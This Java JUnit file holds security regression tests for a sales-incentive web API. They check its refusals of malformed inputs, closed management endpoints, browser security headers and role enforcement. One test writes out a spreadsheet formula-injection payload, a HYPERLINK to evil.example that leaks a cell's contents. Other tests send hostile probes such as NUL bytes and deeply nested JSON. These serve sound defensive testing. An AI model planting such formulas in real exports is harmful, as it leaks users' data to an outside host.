package io.tandem.security;

import com.fasterxml.jackson.databind.JsonNode;
import io.tandem.support.ApiClient;
import io.tandem.support.ApiClient.Response;
import io.tandem.support.SampleTenant;
import io.tandem.support.TandemTestApplication;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;

import static io.tandem.support.ApiClient.json;
import static org.assertj.core.api.Assertions.assertThat;

/** Each finding of the hardening review, replayed against a fresh instance: what was a 500 or a leak is now refused cleanly. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HardeningRegressionTest {

    private static final String PLAN = """
            {"name":"Plan","team":"SALES","periodType":"QUARTER","currency":"USD","targetPayout":"10000.00",
             "components":[{"metric":"CLOSED_WON_REVENUE","weight":100,"target":100000}]}""";

    private TandemTestApplication app;
    private ApiClient api;
    private String admin;
    private String adminId;
    private String apiKey;

    @BeforeAll
    void start() {
        app = TandemTestApplication.start();
        api = app.api();
        admin = api.signUpAndLogIn("Hardened", "admin@hardened.test");
        adminId = api.get("/api/v1/me", admin).json().get("userId").asText();
        apiKey = api.post("/api/v1/api-keys", admin, json("name", "k")).json().get("key").asText();
    }

    @AfterAll
    void stop() {
        app.close();
    }

    @Test
    void aDraftPlanCanBeEditedAgainAndAgain() {
        String id = api.post("/api/v1/incentives/plans", admin, PLAN).json().get("id").asText();
        for (String name : new String[]{"Plan, second try", "Plan, third try"}) {
            Response edited = api.put("/api/v1/incentives/plans/" + id, admin, PLAN.replace("\"Plan\"", "\"" + name + "\""));
            assertThat(edited.status()).as(edited.body()).isEqualTo(200);
            assertThat(edited.json().get("name").asText()).isEqualTo(name);
            assertThat(edited.json().get("id").asText()).as("edited in place").isEqualTo(id);
        }
        assertThat(api.get("/api/v1/incentives/plans/" + id + "/versions", admin).json()).hasSize(1);
    }

    @Test
    void aNulCharacterIsABadRequestAndInImportsOnlyItsRowFails() {
        assertProblem(api.post("/api/v1/login", null, "{\"email\":\"a\\u0000b@x.test\",\"password\":\"x\"}"), 400);
        assertProblem(api.post("/api/v1/signup", null, "{\"company\":\"A\\u0000B\",\"name\":\"N\",\"email\":\"n@nul.test\","
                + "\"password\":\"correct horse battery\"}"), 400);
        assertProblem(api.patch("/api/v1/users/" + adminId, admin, "{\"name\":\"Ad\\u0000min\"}"), 400);
        assertProblem(api.get("/api/v1/records/leads?q=a%00b", admin), 400);

        Response ingested = api.postWithApiKey("/api/v1/ingest/leads", apiKey, "application/json",
                "[{\"external_id\":\"OK1\",\"email\":\"ok@x.test\",\"created_at\":\"2025-01-01T00:00:00Z\"},"
                        + "{\"external_id\":\"BAD\\u0000\",\"email\":\"bad@x.test\",\"created_at\":\"2025-01-01T00:00:00Z\"}]");
        assertThat(ingested.status()).as(ingested.body()).isEqualTo(200);
        assertThat(ingested.json().get("inserted").asInt()).isEqualTo(1);
        assertThat(ingested.json().get("errors").get(0).get("line").asInt()).isEqualTo(2);

        String csv = "external_id,email,created_at,campaign_id\nC1,c1@x.test,2025-01-01T00:00:00Z,\n"
                + "C2,c2@x.test,2025-01-01T00:00:00Z,camp\u0000aign\nC3,c3@x.test,2025-01-01T00:00:00Z,\n";
        JsonNode job = SampleTenant.importAndWait(api, admin, "leads", csv.getBytes(StandardCharsets.UTF_8));
        assertThat(job.get("status").asText()).isEqualTo("DONE");
        assertThat(job.get("inserted").asInt()).as("the good rows land").isEqualTo(2);
        assertThat(job.get("errors").get(0).get("line").asInt()).as("the bad row is reported by its line").isEqualTo(3);
    }

    @Test
    void outOfRangeNumbersAndDatesAreBadRequests() {
        assertProblem(api.post("/api/v1/incentives/plans", admin, PLAN.replace("\"10000.00\"", "1e30")), 400);
        assertProblem(api.put("/api/v1/settings/metrics", admin, "{\"reportingCurrency\":\"USD\",\"grossMargin\":1e-320}"), 400);
        String plan = api.post("/api/v1/incentives/plans", admin, PLAN).json().get("id").asText();
        assertProblem(api.post("/api/v1/incentives/plans/" + plan + "/simulate", admin, "{\"volume\":\"NaN\"}"), 400);
        assertProblem(api.get("/api/v1/metrics?from=2024-01-01T00:00:00Z&to=%2B999999999-12-31T00:00:00Z", admin), 400);
    }

    @Test
    void managementEndpointsOtherThanHealthAreGoneAndHealthSaysOnlyItsStatus() {
        for (String endpoint : new String[]{"beans", "env", "loggers", "routes", "info", "metrics", "refresh", "threaddump"}) {
            Response response = api.get("/api/" + endpoint, admin);
            assertThat(response.status()).as(endpoint).isIn(404, 405);
            assertThat(response.isProblem()).isTrue();
        }
        JsonNode health = api.get("/api/health", admin).json();
        assertThat(health.get("status").asText()).isEqualTo("UP");
        assertThat(health.get("details").isNull()).as("no JDBC URL, port or disk for anyone").isTrue();
    }

    @Test
    void aBooleanIsTrueOrFalseAndNothingElse() {
        String member = api.post("/api/v1/users", admin, "{\"email\":\"m@hardened.test\",\"name\":\"M\",\"team\":\"SALES\",\"role\":\"MEMBER\","
                + "\"password\":\"a long password 1\"}").json().get("id").asText();
        for (String value : new String[]{"\"yes\"", "\"false\"", "0", "\"\"", "[]"}) {
            assertProblem(api.patch("/api/v1/users/" + member, admin, "{\"active\":" + value + "}"), 400);
        }
        assertThat(api.logIn("m@hardened.test", "a long password 1")).as("still active").isNotBlank();
    }

    @Test
    void anApiKeyOnACsvRouteGetsAReadableRefusalAndAnEncodedSlashAProblem() {
        Response csv = api.getWithApiKey("/api/v1/incentives/statements.csv?period=2025-Q1", apiKey);
        assertProblem(csv, 403);
        assertThat(csv.json().get("detail").asText()).contains("API keys");
        Response slash = api.get("/api/v1/users/a%2Fb", admin);
        assertThat(slash.status()).isBetween(400, 499);
        assertThat(slash.isProblem()).as(slash.body()).isTrue();
    }

    @Test
    void currenciesAreIsoCodesAndOneWithoutARateLeavesOnlyItsFiguresUndefined() {
        Response zzz = api.postWithApiKey("/api/v1/ingest/opportunities", apiKey, "application/json",
                "[{\"external_id\":\"Z1\",\"amount\":\"100\",\"currency\":\"ZZZ\",\"created_at\":\"2025-01-01T00:00:00Z\",\"status\":\"open\"},"
                        + "{\"external_id\":\"Z2\",\"amount\":\"100\",\"currency\":\"NaN\",\"created_at\":\"2025-01-01T00:00:00Z\",\"status\":\"open\"}]");
        assertThat(zzz.json().get("inserted").asInt()).isZero();
        assertThat(zzz.json().get("errors").get(0).get("reason").asText()).contains("ISO 4217");

        api.postWithApiKey("/api/v1/ingest/campaigns", apiKey, "application/json", "[{\"external_id\":\"cmp\",\"name\":\"Webinars\"}]");
        api.postWithApiKey("/api/v1/ingest/leads", apiKey, "application/json",
                "[{\"external_id\":\"LG\",\"email\":\"lg@x.test\",\"created_at\":\"2025-02-01T00:00:00Z\","
                        + "\"campaign_id\":\"cmp\",\"source\":\"marketing\"}]");
        Response gbp = api.postWithApiKey("/api/v1/ingest/opportunities", apiKey, "application/json",
                "[{\"external_id\":\"G1\",\"lead_id\":\"LG\",\"amount\":\"500\",\"currency\":\"GBP\",\"created_at\":\"2025-02-02T00:00:00Z\",\"status\":\"open\"}]");
        assertThat(gbp.json().get("inserted").asInt()).as(gbp.body()).isEqualTo(1);
        Response byCampaign = api.get("/api/v1/metrics/by-campaign?from=2025-01-01T00:00:00Z&to=2025-03-01T00:00:00Z", admin);
        assertThat(byCampaign.status()).as(byCampaign.body()).isEqualTo(200);
        JsonNode row = byCampaign.json().get(0);
        assertThat(row.get("leads").asInt()).isEqualTo(1);
        assertThat(row.get("sourcedPipeline").isNull()).isTrue();
        assertThat(row.get("note").asText()).contains("GBP");
    }

    @Test
    void everyResponseCarriesTheBrowserProtections() throws Exception {
        HttpClient http = HttpClient.newHttpClient();
        for (String path : new String[]{"/api/health", "/api/v1/me", "/api/v1/no-such-route"}) {
            HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(RouteRequests.baseUrl(app) + path)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(response.headers().firstValue("Content-Security-Policy")).as(path).get().asString().contains("frame-ancestors 'none'");
            assertThat(response.headers().firstValue("X-Frame-Options")).as(path).contains("DENY");
            assertThat(response.headers().firstValue("X-Content-Type-Options")).as(path).contains("nosniff");
            assertThat(response.headers().firstValue("Referrer-Policy")).as(path).contains("same-origin");
        }
    }

    @Test
    void theStatementsExportNeutralisesSpreadsheetFormulas() {
        assertThat(api.post("/api/v1/users", admin, "{\"email\":\"f@hardened.test\",\"name\":\"@SUM(1+1)\",\"team\":\"SALES\","
                + "\"role\":\"MEMBER\",\"password\":\"a long password 1\"}").status()).isEqualTo(201);
        String evil = "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"Click\\\")";
        String id = api.post("/api/v1/incentives/plans", admin, PLAN.replace("\"Plan\"", "\"" + evil + "\"")).json().get("id").asText();
        Response activated = api.post("/api/v1/incentives/plans/" + id + "/activate", admin, json("overrideReason", "test"));
        assertThat(activated.status()).as(activated.body()).isEqualTo(200);
        assertThat(api.post("/api/v1/incentives/periods/2025-Q1/close", admin, "").status()).isEqualTo(200);
        Response csv = api.get("/api/v1/incentives/statements.csv?period=2025-Q1", admin);
        assertThat(csv.status()).as(csv.body()).isEqualTo(200);
        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"").contains(",'@SUM(1+1),")
                .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK").doesNotContain(",@SUM");
    }

    @Test
    void aViewerCannotImportEvenByCallingTheImportServiceItself() {
        String id = api.post("/api/v1/users", admin, "{\"email\":\"v@hardened.test\",\"name\":\"V\",\"team\":\"SALES\","
                + "\"role\":\"VIEWER\",\"password\":\"a long password 1\"}").json().get("id").asText();
        java.util.UUID tenant = java.util.UUID.fromString(api.get("/api/v1/me", admin).json().get("tenantId").asText());
        io.tandem.tenancy.SignedInUser viewer = new io.tandem.tenancy.SignedInUser(tenant, java.util.UUID.fromString(id), "v@hardened.test",
                "V", io.tandem.tenancy.Team.SALES, io.tandem.tenancy.Role.VIEWER, true);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> app.context().getBean(io.tandem.funnel.ingest.CsvImports.class)
                        .start(viewer, io.tandem.funnel.ingest.RecordType.LEADS, "x.csv",
                                new java.io.ByteArrayInputStream("external_id,created_at\nV1,2025-01-01T00:00:00Z\n".getBytes(StandardCharsets.UTF_8))))
                .isInstanceOfSatisfying(io.tandem.platform.ProblemException.class,
                        e -> assertThat(e.kind()).isEqualTo(io.tandem.platform.ProblemException.Kind.FORBIDDEN));
    }

    @Test
    void deeplyNestedBodiesAreRefusedBeforeAnyParserRecursesIntoThem() {
        Response deep = api.postWithApiKey("/api/v1/ingest/leads", apiKey, "application/json",
                "[" + "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000) + "]");
        assertProblem(deep, 400);
        assertThat(deep.json().get("detail").asText()).contains("levels deep");
        Response bracketsInText = api.postWithApiKey("/api/v1/ingest/campaigns", apiKey, "application/json",
                "[{\"external_id\":\"brackets\",\"name\":\"" + "[{".repeat(500) + "\"}]");
        assertThat(bracketsInText.status()).as("brackets inside a text do not count").isEqualTo(200);
    }

    @Test
    void freeTextHasALimitAndTheRefusalNamesTheField() {
        Response reason = api.post("/api/v1/funnel/proposals", admin, "{\"stageKey\":\"MQL\",\"slaHours\":12,\"reason\":\"" + "x".repeat(5000) + "\"}");
        assertProblem(reason, 400);
        assertThat(reason.json().get("detail").asText()).startsWith("reason: at most 2000 characters");
        Response description = api.post("/api/v1/funnel/proposals", admin, "{\"stageKey\":\"MQL\",\"description\":\"" + "x".repeat(5000)
                + "\",\"reason\":\"why\"}");
        assertProblem(description, 400);
        assertThat(description.json().get("detail").asText()).startsWith("description: at most 4000 characters");
    }

    private static void assertProblem(Response response, int status) {
        assertThat(response.status()).as(response.body()).isEqualTo(status);
        assertThat(response.isProblem()).as("problem+json: " + response.contentType() + " " + response.body()).isTrue();
    }
}
